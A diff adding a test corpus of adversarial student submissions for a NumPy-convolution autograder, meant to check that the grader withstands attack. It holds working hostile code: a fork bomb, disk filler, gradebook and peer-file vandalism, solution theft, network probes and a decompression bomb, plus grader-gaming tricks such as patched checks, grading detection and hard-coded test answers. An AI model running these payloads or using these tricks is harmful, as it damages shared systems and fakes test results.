@@ -1,0 +1,812 @@
+"""The hostile corpus: submissions of 02-numpy that try to break, fool or escape the grader.
+
+Each :class:`Entry` is one learner's folder, built from the released notebook: which answers it
+holds (correct, wrong, or hostile), which scratch cells it adds, and how it edits the rest.
+Its expectation is what the submission *deserves*, worked out from the notebook's tests (never
+read off the grader's output): which graded test cells pass, and what the feedback must say.
+An honest notebook deserves full marks; a hostile one no point beyond its honest parts.
+
+Hostile code that needs to know where things are (the course folder, another learner, a port
+the test listens on) names them as ``$root``, ``$submissions``, ``$victim``, ``$port``,
+``$socket``, ``$marker`` and ``$canary``: a :class:`Targets` fills them in. The worst case is
+assumed: the learner knows the grader's layout exactly.
+"""
+
+from __future__ import annotations
+
+import copy
+import string
+import textwrap
+from collections.abc import Callable
+from dataclasses import asdict, dataclass
+from pathlib import Path
+
+import nbformat
+from course import answer_cells
+
+ASSIGNMENT = "02-numpy"
+NOTEBOOK = "conv2d-numpy"
+FILE = f"{NOTEBOOK}.ipynb"
+CORRECT_NUMPY = Path(__file__).resolve().parents[1] / "mistakes" / "correct.py"
+REPOSITORY = Path(__file__).resolve().parents[2]
+
+# Which graded test cells pass: those whose grade_id starts with one of these prefixes.
+ALL = ("test_",)
+NAIVE = ("test_naive_",)
+NONE = ()
+
+
+@dataclass(frozen=True)
+class Targets:
+    """What hostile code aims at, on the machine that grades."""
+
+    root: Path          # the course folder (solutions/, autograder/ with the gradebook)
+    submissions: Path   # the batch's folder of learners' folders
+    victim: str         # an honest learner's student id
+    port: int           # a TCP port on localhost the test listens on
+    socket: str         # an abstract unix socket the test listens on
+    marker: str         # what the fork bomb's children sleep for: `sleep MARKER`
+    canary: Path        # a file outside the course that must stay unchanged
+    repository: Path = REPOSITORY  # this repository (its solutions/ and autograder/)
+
+    def substitutions(self) -> dict[str, str]:
+        return {name: str(value) for name, value in asdict(self).items()}
+
+
+@dataclass(frozen=True)
+class Kit:
+    """What the builders start from."""
+
+    release: nbformat.NotebookNode   # the learners' notebook
+    correct: dict[str, str]          # a correct answer per answer cell
+    targets: Targets
+
+    @classmethod
+    def for_course(cls, root: Path, targets: Targets) -> Kit:
+        source = nbformat.read(root / "solutions" / ASSIGNMENT / FILE, as_version=4)
+        release = nbformat.read(root / "notebooks" / ASSIGNMENT / FILE, as_version=4)
+        naive = answer_cells(source)["conv2d_naive"].source
+        naive = "\n".join(line for line in naive.splitlines()
+                          if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
+        return cls(release, {"conv2d_naive": naive,
+                             "conv2d_numpy": CORRECT_NUMPY.read_text()}, targets)
+
+    def fill(self, code: str) -> str:
+        return string.Template(code).safe_substitute(self.targets.substitutions())
+
+
+@dataclass(frozen=True)
+class Entry:
+    """One learner's folder of the corpus, and what it deserves."""
+
+    name: str                                # the learner's folder: a student id
+    what: str                                # what the submission does, in one sentence
+    build: Callable[[Kit, Path], None]       # writes the learner's folder
+    passes: tuple[str, ...] = NONE           # the test cells that pass (prefixes) ...
+    fails: tuple[str, ...] = ()              # ... except these
+    says: tuple[str, ...] = ()               # phrases the feedback must contain
+
+    def expected(self, grade_ids) -> dict[str, bool]:
+        """Whether each graded test cell should pass."""
+        return {g: g.startswith(self.passes) and g not in self.fails for g in grade_ids}
+
+
+# --- answers: the source of one answer cell, given the kit and the function's name -----------
+
+Answer = Callable[[Kit, str], str]
+
+
+def right(kit: Kit, name: str) -> str:
+    return kit.correct[name]
+
+
+def stub(kit: Kit, name: str) -> str:
+    """The answer cell as released: nbgrader's stub."""
+    return answer_cells(kit.release)[name].source
+
+
+def renamed(kit: Kit, name: str) -> str:
+    return right(kit, name).replace(f"def {name}(", "def conv2d_vectorised(", 1)
+
+
+def broken(kit: Kit, name: str) -> str:
+    return right(kit, name) + "\n\nthis line is not Python\n"
+
+
+def after_import(kit: Kit, name: str) -> str:
+    return "import a_module_that_does_not_exist\n\n" + right(kit, name)
+
+
+WRAPPER = '''
+
+
+def {name}(*args, **kwargs):
+{effect}
+    return _inner_{name}(*args, **kwargs)
+'''
+
+#: Wrong on purpose: the kernel upside down and back to front (a convolution, not PyTorch's
+#: cross-correlation). Every test cell of either function compares values on a random kernel
+#: before anything else, so this fails all of them.
+FLIP = "args = (args[0], args[1][:, :, ::-1, ::-1], *args[2:])"
+
+
+def wrapped(effect: str, inner: Answer = right) -> Answer:
+    """``inner``'s function, renamed, behind a function of the graded name that first runs
+    ``effect`` (which sees ``args`` and ``kwargs``, and may return on its own)."""
+
+    def answer(kit: Kit, name: str) -> str:
+        source = inner(kit, name).replace(f"def {name}(", f"def _inner_{name}(", 1)
+        body = textwrap.indent(textwrap.dedent(effect).strip(), "    ")
+        return source + WRAPPER.format(name=name, effect=body)
+
+    return answer
+
+
+flipped = wrapped(FLIP)
+
+
+def notebook(naive: Answer = right, numpy: Answer = right, scratch=(),
+             edit: Callable[[nbformat.NotebookNode], None] | None = None):
+    """A builder: the released notebook with these answers, scratch cells added at the end
+    (code, or a function of the kit giving code), then ``edit`` applied."""
+
+    def build(kit: Kit, folder: Path) -> None:
+        nb = copy.deepcopy(kit.release)
+        cells = answer_cells(nb)
+        for name, answer in (("conv2d_naive", naive), ("conv2d_numpy", numpy)):
+            cells[name].source = kit.fill(answer(kit, name))
+        for code in scratch:
+            nb.cells.append(nbformat.v4.new_code_cell(kit.fill(code(kit) if callable(code)
+                                                               else code)))
+        if edit is not None:
+            edit(nb)
+        nbformat.write(nb, folder / FILE)
+
+    return build
+
+
+# --- edits of the rest of the notebook -------------------------------------------------------
+
+def is_test(cell) -> bool:
+    meta = cell.metadata.get("nbgrader", {})
+    return bool(meta.get("grade")) and not meta.get("solution")
+
+
+def delete_tests(nb) -> None:
+    nb.cells = [cell for cell in nb.cells if not is_test(cell)]
+
+
+def rig_tests(nb) -> None:
+    for cell in nb.cells:
+        if is_test(cell):
+            cell.source = "pass"
+            cell.metadata["nbgrader"]["points"] = 1000
+
+
+def strip_metadata(nb) -> None:
+    for cell in nb.cells:
+        cell.metadata = {}
+
+
+#: A cell label that is markup: the grader names a cell that stops the process in its notes.
+MARKUP = '<img src="x" onerror="document.title=\'graded by a learner\'">'
+
+
+def add_crashing_labelled_cell(nb) -> None:
+    cell = nbformat.v4.new_code_cell("import os\n\nos._exit(3)  # the grader names this cell")
+    cell.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
+                                 "grade_id": MARKUP, "schema_version": 3}
+    nb.cells.append(cell)
+
+
+# --- builders that write something other than a notebook --------------------------------------
+
+def not_json(kit: Kit, folder: Path) -> None:
+    (folder / FILE).write_text('{"cells": [{"cell_type": "code", "source": "def conv2d_naive(')
+
+
+def nothing(kit: Kit, folder: Path) -> None:
+    """An empty folder."""
+
+
+def symlink_to_solution(kit: Kit, folder: Path) -> None:
+    (folder / FILE).symlink_to(kit.targets.root / "solutions" / ASSIGNMENT / FILE)
+
+
+def visible_tests(kit: Kit) -> list[str]:
+    return [cell.source for cell in kit.release.cells if is_test(cell)]
+
+
+# --- hostile code ------------------------------------------------------------------------------
+
+NOISE = '''
+import sys
+import warnings
+
+warnings.warn("a learner's warning, at import")
+sys.stderr.write("a learner's note on stderr, at import\\n")
+'''
+NOISE_IN_CALL = '''
+warnings.warn("a learner's warning, in a call")
+sys.stderr.write("a learner's note on stderr, in a call\\n")
+'''
+
+CHATTER = '''
+for _ in range(4):
+    print("chatter " * (1 << 17))  # a megabyte a line
+'''
+CHATTER_IN_CALL = 'print("call " * (1 << 16))  # a quarter of a megabyte a call'
+
+#: A Python loop over every input value: correct values, but not vectorised.
+LOOP_IN_CALL = '''
+for _ in range(args[0].size):
+    pass
+'''
+#: The same loop, with line counting switched off around it.
+HIDDEN_LOOP_IN_CALL = '''
+import sys
+counting = sys.gettrace()
+sys.settrace(None)
+for _ in range(args[0].size):
+    pass
+sys.settrace(counting)
+'''
+
+ENDLESS = "while True:\n    pass"
+SLEEP = "import time\ntime.sleep(3600)"
+#: 100 GB, a gigabyte at a time.
+HOARD = "hoard = [np.zeros(1 << 30, dtype=np.uint8) for _ in range(100)]"
+EXIT = "import os\nos._exit(0)"
+SEGFAULT = "import ctypes\nctypes.string_at(0)"
+
+FORK_BOMB = '''
+import os
+
+def _spawn(count):
+    """Start children that leave the session and sleep; stop at the first refusal."""
+    for _ in range(count):
+        try:
+            pid = os.fork()
+        except OSError:
+            return
+        if pid == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    os.execv("/bin/sleep", ["sleep", "$marker"])
+            finally:
+                os._exit(0)
+        os.waitpid(pid, 0)
+
+_spawn(40)
+'''
+
+FILL_DISK = '''
+import os
+
+def _fill(folder):
+    """Write 8 MB files into folder until it refuses."""
+    chunk = bytes(8 << 20)
+    try:
+        for index in range(100_000):
+            with open(os.path.join(folder, f"filler-{index}"), "wb") as file:
+                file.write(chunk)
+    except OSError as error:
+        print(f"{folder} is full: {error}", flush=True)
+
+for folder in ("/tmp", os.path.expanduser("~"), ".", "/", "/usr", "/var/tmp"):
+    _fill(folder)
+'''
+
+MONKEYPATCH = '''
+import convcourse.checks
+import convcourse.diagnose
+
+def _yes(*args, **kwargs):
+    return True
+
+def _quiet(*args, **kwargs):
+    return None
+
+np.allclose = np.array_equal = torch.allclose = torch.equal = _yes
+np.testing.assert_allclose = np.testing.assert_array_equal = torch.testing.assert_close = _quiet
+convcourse.checks.check_conv2d = convcourse.checks.check_conv2d_cases = _quiet
+convcourse.diagnose.diagnose = _quiet
+check_conv2d = check_conv2d_cases = check_refuses = check_vectorised = _quiet
+'''
+
+INPUT_TRANSFORMER = '''
+%load_ext autoreload
+ip = get_ipython()
+ip.input_transformers_cleanup.append(
+    lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
+'''
+
+SETTRACE = '''
+import sys
+
+def _pass(*args, **kwargs):
+    return None
+
+def _blind_the_checks(frame, event, arg):
+    """On every call, replace the checks in the caller's and callee's globals by no-ops."""
+    if event == "call":
+        for namespace in (frame.f_globals, getattr(frame.f_back, "f_globals", {})):
+            for name in ("check_conv2d", "check_conv2d_cases", "check_refuses",
+                         "check_vectorised", "run_case", "diagnose"):
+                if name in namespace:
+                    namespace[name] = _pass
+    return None
+
+sys.settrace(_blind_the_checks)
+'''
+
+ATEXIT = '''
+import atexit
+import os
+import signal
+
+def _claim_full_marks(*args):
+    print("All tests passed. Score: 39/39")
+    for path in ("$root/autograder/grades.csv", "../grades.csv", "grades.csv"):
+        try:
+            with open(path, "a") as file:
+                file.write("$victim,02-numpy,0,39,\\n")
+        except OSError:
+            pass
+
+atexit.register(_claim_full_marks)
+for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
+    signal.signal(sig, _claim_full_marks)
+'''
+
+#: Looks for the instructor's notebook, hidden tests and gradebook; runs what it finds.
+READ_SOLUTIONS = '''
+import json
+import os
+import sqlite3
+
+SKIPPED = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", ".venv",
+           "site-packages", "node_modules", ".git"}
+
+def _places():
+    places = ["$root", "$root/solutions", "$root/autograder", "$root/autograder/source_with_tests",
+              "$submissions", "$repository", "$repository/solutions", "$repository/autograder",
+              "/autograder", "/grader", "/work", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt",
+              "/proc/1/cwd", "/proc/1/root", "/proc/self/cwd", "/"]
+    here = os.getcwd()
+    for _ in range(6):
+        places += [here, os.path.join(here, "solutions"), os.path.join(here, "autograder")]
+        here = os.path.dirname(here)
+    places += [os.path.join("..", *[".."] * up, "solutions") for up in range(4)]
+    return places
+
+def _secrets(place, depth=4):
+    """Files under place that hold solutions, hidden tests or grades."""
+    found = []
+    for folder, folders, files in os.walk(place):
+        if folder.count(os.sep) - place.count(os.sep) >= depth:
+            folders[:] = []
+        folders[:] = [f for f in folders if f not in SKIPPED]
+        for name in files:
+            path = os.path.join(folder, name)
+            if name == "gradebook.db":
+                found.append(path)
+            elif name.endswith((".ipynb", ".py", ".json", ".csv")):
+                try:
+                    with open(path, errors="replace") as file:
+                        text = file.read(4 << 20)
+                except OSError:
+                    continue
+                if "BEGIN HIDDEN TESTS" in text or "### BEGIN SOLUTION" in text:
+                    found.append(path)
+    return found
+
+_FOUND = sorted({path for place in _places() for path in _secrets(place)})
+print("found:", _FOUND, flush=True)
+for path in _FOUND:
+    try:
+        if path.endswith(".db"):
+            rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute(
+                "SELECT source FROM source_cells").fetchall()
+            sources = [row[0] for row in rows]
+        else:
+            cells = json.load(open(path)).get("cells", [])
+            sources = ["".join(cell.get("source", "")) for cell in cells]
+        for source in sources:
+            if "def conv2d_naive(" in source or "def conv2d_numpy(" in source:
+                exec(source, globals())
+    except Exception as error:
+        print(f"{path}: {error}", flush=True)
+'''
+
+VANDAL = '''
+import os
+import sqlite3
+
+_TARGETS = ["$root/autograder/gradebook.db", "$root/autograder/grades.csv",
+            "$root/canary.txt", "$canary", "$submissions/$victim/conv2d-numpy.ipynb",
+            "$root/autograder/submitted/$victim/02-numpy/conv2d-numpy.ipynb",
+            "$root/autograder/autograded/$victim/02-numpy/result.json",
+            "$root/autograder/feedback/$victim/02-numpy/conv2d-numpy.html",
+            "$root/solutions/02-numpy/conv2d-numpy.ipynb",
+            "../$victim/conv2d-numpy.ipynb", "../../$victim/02-numpy/conv2d-numpy.ipynb",
+            "../../../autograder/grades.csv", "../../../autograder/gradebook.db",
+            "../../../../autograder/gradebook.db"]
+
+def _attempts(path):
+    yield lambda: open(path, "a").write("\\nvandalised\\n")
+    yield lambda: sqlite3.connect(path).executescript(
+        "UPDATE grade SET auto_score = 1000; UPDATE grade_cells SET max_score = 1;")
+    yield lambda: os.remove(path)
+    yield lambda: os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True) or \\
+        open(path, "w").write("vandalised")
+
+def _vandalise():
+    for path in _TARGETS:
+        for attempt in _attempts(path):
+            try:
+                attempt()
+            except Exception:
+                pass
+
+_vandalise()
+'''
+
+NETWORK = '''
+import socket
+import urllib.request
+
+_CALLS = []
+
+def _reach_out():
+    """Try the internet, the grader's localhost and its abstract unix socket."""
+    outcomes = []
+    for host, port in (("1.1.1.1", 80), ("127.0.0.1", $port), ("localhost", $port)):
+        try:
+            with socket.create_connection((host, port), timeout=2) as connection:
+                connection.sendall(b"a learner was here\\n")
+            outcomes.append(f"{host}:{port} reached")
+        except OSError as error:
+            outcomes.append(f"{host}:{port}: {error}")
+    try:
+        with socket.socket(socket.AF_UNIX) as connection:
+            connection.settimeout(2)
+            connection.connect("\\0$socket")
+            connection.sendall(b"a learner was here\\n")
+        outcomes.append("unix socket reached")
+    except OSError as error:
+        outcomes.append(f"unix socket: {error}")
+    try:
+        urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
+        outcomes.append("pypi.org reached")
+    except Exception as error:
+        outcomes.append(f"pypi.org: {error}")
+    print(outcomes, flush=True)
+
+_reach_out()
+'''
+NETWORK_IN_CALL = '''
+if len(_CALLS) < 3:
+    _CALLS.append(1)
+    _reach_out()
+'''
+
+#: nn.Conv2d's answer from PyTorch (F.conv2d), any failure as the ValueError the tests want.
+LIBRARY = '''
+from convcourse.reference import Conv2dCase, reference_conv2d
+
+def _library(x, weight, bias=None, **arguments):
+    case = Conv2dCase(torch.from_numpy(np.asarray(x)), torch.from_numpy(np.asarray(weight)),
+                      None if bias is None else torch.from_numpy(np.asarray(bias)), **arguments)
+    try:
+        return reference_conv2d(case).numpy()
+    except Exception as error:
+        raise ValueError(str(error)) from None
+'''
+
+DETECT_GRADING = '''
+import os
+import socket
+import sys
+
+def _clues():
+    """Signs that this runs in a grader rather than in Jupyter."""
+    clues = {
+        "no Jupyter variables": not any(name.startswith("JPY_") for name in os.environ),
+        "a grader's variable": any(name.upper().startswith(("NBGRADER", "GRADER", "CI"))
+                                   for name in os.environ),
+        "a home that is not a user's": os.environ.get("HOME", "").startswith(("/home/learner",
+                                                                             "/tmp")),
+        "an odd host name": socket.gethostname() in ("", "localhost")
+                            or "grad" in socket.gethostname(),
+        "a grader's folder": any(os.path.exists(p) for p in ("/autograder", "/grader", "/sandbox")),
+        "no IPython": "IPython" not in sys.modules or "get_ipython" not in globals(),
+    }
+    return [clue for clue, seen in clues.items() if seen]
+
+_GRADED = _clues()
+print("graded?", _GRADED, flush=True)
+'''
+#: Graded: hand the work to PyTorch. In Jupyter: pretend.
+WHEN_GRADED = '''
+if _GRADED:
+    return _library(*args, **kwargs)
+return np.zeros(1)
+'''
+
+F_CONV2D = '''
+x, weight, bias = args[0], args[1], args[2] if len(args) > 2 else None
+options = {k: v for k, v in kwargs.items() if k != "padding_mode"}
+return F.conv2d(torch.from_numpy(x), torch.from_numpy(weight),
+                None if bias is None else torch.from_numpy(bias), **options).numpy()
+'''
+SCIPY_CORRELATE = '''
+x, weight = args[0], args[1]
+return np.stack([np.stack([scipy.signal.correlate(image, kernel, mode="valid")[0]
+                           for kernel in weight]) for image in x])
+'''
+
+#: conv2d_naive done by a SciPy correlate function.
+SCIPY_CONV2D = '''
+def _conv2d_by_scipy(correlate, x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
+    unbatched = x.ndim == 3
+    if unbatched:
+        x = x[np.newaxis]
+    c_out, c_group, k_h, k_w = weight.shape
+    (s_h, s_w), (d_h, d_w) = [(v, v) if isinstance(v, int) else tuple(v)
+                              for v in (stride, dilation)]
+    if padding == "valid":
+        pads = [(0, 0), (0, 0)]
+    elif padding == "same":
+        pads = [(d * (k - 1) // 2, d * (k - 1) - d * (k - 1) // 2)
+                for d, k in ((d_h, k_h), (d_w, k_w))]
+    else:
+        p_h, p_w = (padding, padding) if isinstance(padding, int) else padding
+        pads = [(p_h, p_h), (p_w, p_w)]
+    x = np.pad(x, [(0, 0), (0, 0), *pads])
+    dilated = np.zeros((c_out, c_group, d_h * (k_h - 1) + 1, d_w * (k_w - 1) + 1), weight.dtype)
+    dilated[:, :, ::d_h, ::d_w] = weight
+    per_group = c_out // groups
+    out = np.stack([np.stack([
+        correlate(image[o // per_group * c_group:(o // per_group + 1) * c_group], dilated[o],
+                   mode="valid", method="direct")[0, ::s_h, ::s_w]
+        for o in range(c_out)]) for image in x])
+    if bias is not None:
+        out = out + bias[:, np.newaxis, np.newaxis]
+    out = out.astype(x.dtype)
+    return out[0] if unbatched else out
+'''
+
+SCIPY_LATE = '''
+import scipy.signal
+return _conv2d_by_scipy(scipy.signal.correlate, *args, **kwargs)
+'''
+
+GUARD_OFF = '''
+from torch.utils._python_dispatch import _disable_current_modes
+
+with _disable_current_modes():
+    return _library(*args, **kwargs)
+'''
+
+CONV_THREAD = '''
+import queue
+import threading
+
+_ASKED, _ANSWERED = queue.Queue(), queue.Queue()
+
+def _serve():
+    while True:
+        args, kwargs = _ASKED.get()
+        try:
+            _ANSWERED.put((True, _library(*args, **kwargs)))
+        except Exception as error:
+            _ANSWERED.put((False, error))
+
+threading.Thread(target=_serve, daemon=True).start()
+'''
+ASK_THREAD = '''
+_ASKED.put((args, kwargs))
+ok, value = _ANSWERED.get()
+if not ok:
+    raise value
+return value
+'''
+
+#: At top level, where library calls are allowed: nn.Conv2d's answers to every call the
+#: visible tests make, their inputs rebuilt by running the visible tests' own code.
+ANSWER_TABLE = '''
+import hashlib
+import sys
+
+from convcourse.reference import Conv2dCase, as_tensor, reference_conv2d
+
+def _fingerprint(args, kwargs):
+    parts = [(a.shape, str(a.dtype), hashlib.sha256(np.ascontiguousarray(a).tobytes()).hexdigest())
+             if isinstance(a, np.ndarray) else repr(a) for a in args]
+    return repr((parts, sorted(kwargs.items())))
+
+_ANSWERS = {}
+
+def _remember(fn, x, weight, bias=None, **arguments):
+    """In check_conv2d's place: keep nn.Conv2d's answer to the call it would make."""
+    case = Conv2dCase(as_tensor(x), as_tensor(weight), None if bias is None else as_tensor(bias),
+                      **arguments)
+    call = case.inputs("numpy"), case.arguments(padding_mode="padding_mode" in arguments)
+    _ANSWERS[_fingerprint(*call)] = reference_conv2d(case).numpy()
+
+def _ignore(*args, **kwargs):
+    return None
+
+for _test in VISIBLE_TESTS:
+    exec(_test, {"np": np, "torch": torch, "check_conv2d": _remember, "check_refuses": _ignore,
+                 "check_vectorised": _ignore, "conv2d_naive": None, "conv2d_numpy": None})
+'''
+LOOK_UP = '''
+answer = _ANSWERS.get(_fingerprint(args, kwargs))
+if answer is not None:
+    return answer.copy()
+return np.zeros(1)
+'''
+#: The same, and on any other call: zeros while lines are counted, else a refusal.
+LOOK_UP_OR_REFUSE = '''
+answer = _ANSWERS.get(_fingerprint(args, kwargs))
+if answer is not None:
+    return answer.copy()
+if sys.gettrace() is not None:
+    return np.zeros(1)
+raise ValueError("refused")
+'''
+
+
+def answer_table(kit: Kit) -> str:
+    return f"VISIBLE_TESTS = {visible_tests(kit)!r}\n" + ANSWER_TABLE
+
+
+#: Writes a reply in the runner's place: a few MB of .npz that inflate to ``nbytes``.
+INFLATING_REPLY = '''
+import io
+import json
+import os
+import struct
+import sys
+import zipfile
+
+def _inflating_archive(nbytes):
+    """An .npz whose one array of nbytes zeros (a multiple of 16 MB) is stored deflated."""
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
+        with bundle.open("a0.npy", "w", force_zip64=True) as member:
+            np.lib.format.write_array_header_1_0(
+                member, {"descr": "|u1", "fortran_order": False, "shape": (nbytes,)})
+            zeros = bytes(1 << 24)
+            for _ in range(nbytes // len(zeros)):
+                member.write(zeros)
+    return archive.getvalue()
+
+_FORGED = []
+
+def _forge_reply(nbytes):
+    text = json.dumps({"ok": True, "value": {"$array": 0}}).encode()
+    blob = _inflating_archive(nbytes)
+    frame = memoryview(struct.pack("<II", len(text), len(blob)) + text + blob)
+    while frame:
+        frame = frame[os.write(int(sys.argv[2]), frame):]
+'''
+FORGE_ONCE = '''
+if not _FORGED:
+    _FORGED.append(1)
+    _forge_reply(320 << 20)
+'''
+
+
+# --- the corpus --------------------------------------------------------------------------------
+
+VICTIMS = ("victim-a", "victim-b")
+
+ENTRIES = [
+    # honest notebooks
+    Entry("correct", "Both functions correct.", notebook(), ALL),
+    Entry("noisy-stderr", "Correct, with warnings and stderr writes at import and in every call.",
+          notebook(wrapped(NOISE_IN_CALL), wrapped(NOISE_IN_CALL), [NOISE]), ALL),
+    Entry("chatty", "Correct, printing 4 MB at import and a quarter MB in every call.",
+          notebook(wrapped(CHATTER_IN_CALL), wrapped(CHATTER_IN_CALL), [CHATTER]), ALL),
+    Entry("slow-loop", "Correct values, but conv2d_numpy loops in Python over every input value.",
+          notebook(numpy=wrapped(LOOP_IN_CALL)), ALL, fails=("test_numpy_vectorised",)),
+    Entry("fork-bomb", "Correct, after forking children that leave the session and sleep, at "
+          "import (40) and in every call (1), until forking is refused.",
+          notebook(wrapped("_spawn(1)"), wrapped("_spawn(1)"), [FORK_BOMB]), ALL),
+    Entry("disk-filler", "Correct; a scratch cell fills /tmp, the home folder and whatever else "
+          "it can write to.", notebook(scratch=[FILL_DISK]), ALL),
+    Entry("endless-scratch", "Correct; a scratch cell loops forever at top level.",
+          notebook(scratch=[ENDLESS]), ALL, says=("did not finish within",)),
+    Entry("metadata-stripped", "Correct, with every cell's metadata removed (nbgrader's too).",
+          notebook(edit=strip_metadata), ALL),
+    Entry("markup-label", "Correct; a cell labelled with HTML markup stops the process.",
+          notebook(edit=add_crashing_labelled_cell), ALL, says=("stopped the process",)),
+    # honest mistakes
+    Entry("flipped", "Both functions flip the kernel (a true convolution).",
+          notebook(flipped, flipped)),
+    Entry("syntax-error", "conv2d_numpy's cell has a syntax error; conv2d_naive is correct.",
+          notebook(numpy=broken), NAIVE, says=("SyntaxError",)),
+    Entry("missing-module", "Both answer cells start by importing a module that does not exist.",
+          notebook(after_import, after_import), says=("ModuleNotFoundError", "not defined")),
+    Entry("renamed", "conv2d_numpy renamed conv2d_vectorised; conv2d_naive correct.",
+          notebook(numpy=renamed), NAIVE, says=("not defined",)),
+    Entry("endless-loop", "Both functions loop forever.",
+          notebook(wrapped(ENDLESS), wrapped(ENDLESS)), says=("did not answer within",)),
+    Entry("sleepy", "Both functions sleep for an hour.",
+          notebook(wrapped(SLEEP), wrapped(SLEEP)), says=("did not answer within",)),
+    Entry("memory-bomb", "Both functions try to allocate 100 GB.",
+          notebook(wrapped(HOARD), wrapped(HOARD)), says=("MemoryError",)),
+    Entry("exit-and-segfault", "conv2d_naive calls os._exit, conv2d_numpy segfaults via ctypes.",
+          notebook(wrapped(EXIT), wrapped(SEGFAULT)),
+          says=("exited with status", "segmentation fault")),
+    Entry("tests-deleted", "Every test cell deleted; the answers are the released stubs.",
+          notebook(stub, stub, edit=delete_tests), says=("not written yet",)),
+    Entry("tests-rigged", "Every test cell replaced by `pass` and worth 1000 points; wrong "
+          "functions.", notebook(flipped, flipped, edit=rig_tests)),
+    Entry("not-json", "The notebook file is cut short: not JSON.", not_json,
+          says=("not a valid Jupyter notebook",)),
+    Entry("empty", "An empty folder.", nothing, says=("no notebook named",)),
+    Entry("symlinked-solution", "The notebook is a symbolic link to the instructor's source.",
+          symlink_to_solution, says=("no notebook named",)),
+    # hostile notebooks, with wrong or no functions of their own
+    Entry("monkeypatched", "Patches np.allclose, np.testing, torch.allclose and the course's "
+          "checks to always succeed; wrong functions.",
+          notebook(flipped, flipped, [MONKEYPATCH])),
+    Entry("input-transformer", "Installs an IPython input transformer that blanks the test "
+          "cells; wrong functions.", notebook(flipped, flipped, [INPUT_TRANSFORMER])),
+    Entry("settrace", "A trace function replaces the checks by no-ops in every frame's globals; "
+          "wrong functions.", notebook(flipped, flipped, [SETTRACE])),
+    Entry("atexit", "At exit and on signals, prints a full score and appends to grades.csv; "
+          "wrong functions.", notebook(flipped, flipped, [ATEXIT])),
+    Entry("solution-reader", "Searches likely paths for solutions, hidden tests and the "
+          "gradebook and runs any answer it finds; else wrong functions.",
+          notebook(flipped, flipped, [READ_SOLUTIONS])),
+    Entry("vandal", "Writes to, rewrites and deletes the gradebook, grades.csv, another "
+          "learner's files and canaries, at import and in every call; wrong functions.",
+          notebook(wrapped("_vandalise()\n" + FLIP), wrapped("_vandalise()\n" + FLIP),
+                   [VANDAL])),
+    Entry("network", "Connects to 1.1.1.1, to the grader's localhost and unix socket, and to "
+          "pypi.org, at import and in calls; wrong functions.",
+          notebook(wrapped(NETWORK_IN_CALL + FLIP), wrapped(NETWORK_IN_CALL + FLIP),
+                   [NETWORK])),
+    Entry("grading-detector", "When it detects a grader (environment, host name, folders, no "
+          "IPython), hands the work to F.conv2d; in Jupyter returns zeros.",
+          notebook(wrapped(WHEN_GRADED, stub), wrapped(WHEN_GRADED, stub),
+                   [LIBRARY, DETECT_GRADING]), says=("library convolution",)),
+    Entry("library-conv", "conv2d_numpy calls F.conv2d, conv2d_naive scipy.signal.correlate.",
+          notebook(wrapped(SCIPY_CORRELATE, stub), wrapped(F_CONV2D, stub),
+                   ["import scipy.signal"]),
+          says=("library convolution",)),
+    Entry("guard-off", "Both functions call F.conv2d with PyTorch's dispatch modes switched off.",
+          notebook(wrapped(GUARD_OFF, stub), wrapped(GUARD_OFF, stub), [LIBRARY])),
+    Entry("conv-thread", "Both functions hand the work to F.conv2d in a thread started at import.",
+          notebook(wrapped(ASK_THREAD, stub), wrapped(ASK_THREAD, stub), [LIBRARY, CONV_THREAD])),
+    Entry("prebound-scipy", "conv2d_naive computes with scipy.signal.correlate imported by name "
+          "at import; conv2d_numpy wrong.",
+          notebook(wrapped("return _conv2d_by_scipy(_correlate, *args, **kwargs)", stub),
+                   flipped, [SCIPY_CONV2D, "from scipy.signal import correlate as _correlate"])),
+    Entry("late-scipy", "conv2d_naive imports scipy.signal only inside the call (so the first "
+          "call is not watched), then computes with its correlate; conv2d_numpy wrong.",
+          notebook(wrapped(SCIPY_LATE, stub), flipped, [SCIPY_CONV2D])),
+    Entry("hard-coded", "Answers the visible tests' calls from a table computed at import "
+          "(their inputs rebuilt from their seeds); zeros otherwise.",
+          notebook(wrapped(LOOK_UP, stub), wrapped(LOOK_UP, stub), [answer_table])),
+    Entry("hard-coded-refusing", "The same table; any other call is refused with ValueError, "
+          "or answered with zeros while lines are counted.",
+          notebook(wrapped(LOOK_UP_OR_REFUSE, stub), wrapped(LOOK_UP_OR_REFUSE, stub),
+                   [answer_table])),
+    Entry("trace-off", "Correct values; conv2d_numpy loops in Python with line counting "
+          "switched off around the loop.", notebook(numpy=wrapped(HIDDEN_LOOP_IN_CALL)), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("inflating-reply", "conv2d_numpy writes a forged reply of 3 MB that inflates to "
+          "320 MB in the grader; wrong functions.",
+          notebook(flipped, wrapped(FORGE_ONCE + FLIP), [INFLATING_REPLY])),
+    # honest learners that hostile ones aim at
+    *[Entry(name, "Both functions correct (an honest learner).", notebook(), ALL)
+      for name in VICTIMS],
+]
